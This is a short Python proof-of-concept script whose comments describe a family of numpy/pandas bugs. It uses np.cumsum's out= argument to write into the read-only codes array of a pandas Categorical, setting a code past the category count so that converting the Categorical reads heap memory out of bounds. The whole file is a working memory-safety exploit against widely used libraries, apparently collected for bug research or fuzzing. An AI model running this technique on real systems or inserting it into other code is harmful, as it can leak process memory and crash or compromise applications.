# source: numpy 1.24 ufunc accumulate/cumulative out= does not check the WRITEABLE flag; pandas Categorical.codes read-only view; take_nd without bounds check (pandas/_libs algos_take_helper)
# family: write into a read-only array pandas trusts via a cumulative/accumulate out= (call form: operator.call(np.cumsum, src, 0, None, v)), then out-of-bounds read through Categorical codes
# goal: rewrite a Categorical's codes to 127 (2 categories) so np.asarray(c) reads int64 words beyond the categories' buffer (heap memory out of bounds)
import numpy as np
import pandas as pd
import functools
import operator

c = pd.Categorical([10, 20, 10, 20])
v = c.codes
src = np.array([0, 1, 126, 0], dtype=np.int8)
operator.call(np.cumsum, src, 0, None, v)
print("codes after:", c.codes.tolist(), flush=True)
print("values read through the codes:", np.asarray(c).tolist(), flush=True)
